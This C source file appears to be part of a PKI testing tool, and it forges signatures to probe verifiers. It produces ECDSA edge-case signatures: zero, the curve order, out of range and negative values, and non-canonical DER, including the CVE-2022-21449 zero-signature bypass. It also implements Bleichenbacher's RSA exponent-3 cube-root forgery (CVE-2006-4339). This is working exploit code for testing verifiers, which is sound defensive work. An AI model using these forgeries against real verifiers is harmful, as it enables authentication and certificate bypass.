/* SPDX-License-Identifier: Apache-2.0 */
#include "pki_forge.h"

#include "pki_crypto_error.h"

#include <openssl/bn.h>
#include <openssl/core_names.h>
#include <openssl/ec.h>
#include <openssl/evp.h>

#include <string.h>

enum { NUMBER_MAX = 1024, RSA_PADDING_MIN = 8 };

/* The two numbers of an ECDSA signature, and the order that they have to stay below. */
struct pair {
    BIGNUM *r, *s, *order;
};

static bool pair_open(struct pair *pair, const struct pki_key *key, const struct buf *signature)
{
    const unsigned char *at = signature->data;
    ECDSA_SIG *sig = d2i_ECDSA_SIG(NULL, &at, (long)signature->len);

    *pair = (struct pair){.r = NULL};
    if (sig != NULL) {
        pair->r = BN_dup(ECDSA_SIG_get0_r(sig));
        pair->s = BN_dup(ECDSA_SIG_get0_s(sig));
    }
    ECDSA_SIG_free(sig);
    return pair->r != NULL && pair->s != NULL &&
           EVP_PKEY_get_bn_param(key->pkey, OSSL_PKEY_PARAM_EC_ORDER, &pair->order) == 1;
}

static void pair_done(struct pair *pair)
{
    BN_free(pair->r);
    BN_free(pair->s);
    BN_free(pair->order);
}

/* INTEGER of a number that is not negative, with some zero bytes more than it needs. */
static void write_number(struct der *d, const BIGNUM *number, size_t zeros)
{
    uint8_t octets[NUMBER_MAX] = {0};
    size_t len = (size_t)BN_num_bytes(number);
    size_t lead = zeros + (BN_num_bits(number) % 8 == 0 ? 1 : 0);

    if (lead + len > sizeof(octets)) {
        d->status = d->status == ASSAY_OK ? ASSAY_ERR_LIMIT : d->status;
        return;
    }
    BN_bn2bin(number, octets + lead);
    der_tlv(d, DER_INTEGER, octets, lead + len);
}

static enum assay_status write_pair(const struct pair *pair, size_t zeros, struct buf *signature)
{
    struct der d = der_onto(signature);

    buf_clear(signature);
    size_t mark = der_open(&d, DER_SEQUENCE);
    write_number(&d, pair->r, zeros);
    write_number(&d, pair->s, zeros);
    der_close(&d, mark);
    return der_status(&d);
}

/* CVE-2022-21449: 0 and 0 fit every message where nobody checks the range. */
static bool make_zero(struct pair *pair)
{
    BN_zero(pair->r);
    BN_zero(pair->s);
    return true;
}

/* The order is 0 again once it is reduced. */
static bool make_order(struct pair *pair)
{
    return BN_copy(pair->r, pair->order) != NULL && BN_copy(pair->s, pair->order) != NULL;
}

/* r + n is congruent to r, but out of range (SEC 1 section 4.1.4, step 1). */
static bool make_above(struct pair *pair)
{
    return BN_add(pair->r, pair->r, pair->order) == 1;
}

/* n - s verifies just as well; written without its leading zero byte it is a negative number. */
static bool make_negative(struct pair *pair)
{
    return BN_is_bit_set(pair->s, BN_num_bits(pair->order) - 1) == 1 ||
           BN_sub(pair->s, pair->order, pair->s) == 1;
}

static bool make_padded(struct pair *pair)
{
    (void)pair;
    return true;
}

/* clang-format off */
static const struct {
    const char *name;
    bool (*change)(struct pair *pair);
    size_t zeros;  /* more than DER allows before each number */
    bool negative; /* take the zero byte away that DER demands before s */
} pairs[] = {
    {"ecdsa-zero",     make_zero,     0, false},
    {"ecdsa-order",    make_order,    0, false},
    {"ecdsa-above",    make_above,    0, false},
    {"ecdsa-negative", make_negative, 0, true},
    {"ecdsa-padded",   make_padded,   2, false},
};
/* clang-format on */

/* s stands last: cut the zero byte out and shorten the two lengths around it. */
static bool cut_zero_of_s(const struct pair *pair, struct buf *signature)
{
    size_t len = (size_t)BN_num_bytes(pair->s);
    size_t at = signature->len - len - 1;

    if (BN_num_bits(pair->s) % 8 != 0 || signature->data[1] >= 0x80)
        return false;
    memmove(signature->data + at, signature->data + at + 1, len);
    signature->data[at - 1]--;
    signature->data[1]--;
    buf_truncate(signature, signature->len - 1);
    return true;
}

static enum assay_status forge_pair(size_t row, const struct pki_key *key, struct buf *signature,
                                    struct assay_error *err)
{
    struct pair pair;
    enum assay_status status = ASSAY_ERR_CRYPTO;

    if (key->type->family != PKI_FAMILY_ECDSA)
        return assay_error_set(err, ASSAY_ERR_MALFORMED, "%s takes a signer with an EC key",
                               pairs[row].name);
    if (pair_open(&pair, key, signature) && pairs[row].change(&pair))
        status = write_pair(&pair, pairs[row].zeros, signature);
    if (status == ASSAY_OK && pairs[row].negative && !cut_zero_of_s(&pair, signature))
        status = assay_error_set(err, ASSAY_ERR_MALFORMED,
                                 "%s takes a signer with a p256 or p384 key", pairs[row].name);
    pair_done(&pair);
    return status == ASSAY_ERR_CRYPTO ? pki_crypto_error(err, "%s", pairs[row].name) : status;
}

/* 00 01 FF..FF 00 and the DigestInfo (RFC 8017 section 9.2), with the shortest padding. */
static enum assay_status write_block(const struct pki_algorithm *algorithm, const struct buf *tbs,
                                     struct buf *block)
{
    static const uint8_t start[] = {0x00, 0x01};
    uint8_t digest[EVP_MAX_MD_SIZE];
    size_t len = 0;
    struct der d = der_onto(block);

    if (EVP_Q_digest(NULL, algorithm->hash, NULL, tbs->data, tbs->len, digest, &len) != 1)
        return ASSAY_ERR_CRYPTO;
    der_raw(&d, start, sizeof(start));
    for (int i = 0; i < RSA_PADDING_MIN; i++)
        der_raw(&d, "\xff", 1);
    der_raw(&d, "", 1);
    size_t info = der_open(&d, DER_SEQUENCE);
    pki_algorithm_write_hash(algorithm, &d);
    der_tlv(&d, DER_OCTET_STRING, digest, len);
    der_close(&d, info);
    return der_status(&d);
}

/* The smallest number whose cube is not below `cube`, bit by bit from the top. */
static bool cube_root(const BIGNUM *cube, BIGNUM *root)
{
    BN_CTX *ctx = BN_CTX_new();
    BIGNUM *power = BN_new();
    bool good = ctx != NULL && power != NULL;

    BN_zero(root);
    for (int bit = BN_num_bits(cube) / 3 + 1; bit >= 0 && good; bit--) {
        good = BN_set_bit(root, bit) == 1 && BN_sqr(power, root, ctx) == 1 &&
               BN_mul(power, power, root, ctx) == 1;
        if (good && BN_cmp(power, cube) > 0)
            good = BN_clear_bit(root, bit) == 1;
    }
    good = good && BN_add_word(root, 1) == 1;
    BN_free(power);
    BN_CTX_free(ctx);
    return good;
}

/*
 * Bleichenbacher's forgery of 2006 (CVE-2006-4339): with the exponent 3 a cube root is a signature
 * for whoever does not look at what follows the hash. The private key is not needed.
 */
static enum assay_status forge_rsa_e3(const struct pki_algorithm *algorithm,
                                      const struct pki_key *key, const struct buf *tbs,
                                      struct buf *signature, struct assay_error *err)
{
    enum assay_status status = ASSAY_ERR_CRYPTO;
    size_t modulus_len = key->type->bits / 8;
    BIGNUM *cube = BN_new();
    BIGNUM *root = BN_new();
    struct buf block;
    uint8_t *room = NULL;

    buf_init(&block, NUMBER_MAX);
    if (key->type->exponent != 3 || algorithm->pss) {
        status = assay_error_set(err, ASSAY_ERR_MALFORMED,
                                 "rsa-e3 takes a signer with the key rsa2048-e3, and no PSS");
        goto out;
    }
    if (cube == NULL || root == NULL || write_block(algorithm, tbs, &block) != ASSAY_OK ||
        buf_extend(&block, modulus_len - block.len, &room) != ASSAY_OK)
        goto out;
    memset(room, 0, modulus_len - (size_t)(room - block.data));
    if (BN_bin2bn(block.data, (int)block.len, cube) == NULL || !cube_root(cube, root))
        goto out;
    buf_clear(signature);
    status = buf_extend(signature, modulus_len, &room);
    if (status == ASSAY_OK && BN_bn2binpad(root, room, (int)modulus_len) < 0)
        status = ASSAY_ERR_CRYPTO;
out:
    buf_done(&block);
    BN_free(cube);
    BN_free(root);
    return status == ASSAY_ERR_CRYPTO ? pki_crypto_error(err, "rsa-e3") : status;
}

enum assay_status pki_forge(const char *name, const struct pki_algorithm *algorithm,
                            const struct pki_key *key, const struct buf *tbs, struct buf *signature,
                            struct assay_error *err)
{
    for (size_t i = 0; i < sizeof(pairs) / sizeof(pairs[0]); i++)
        if (strcmp(pairs[i].name, name) == 0)
            return forge_pair(i, key, signature, err);
    return forge_rsa_e3(algorithm, key, tbs, signature, err);
}
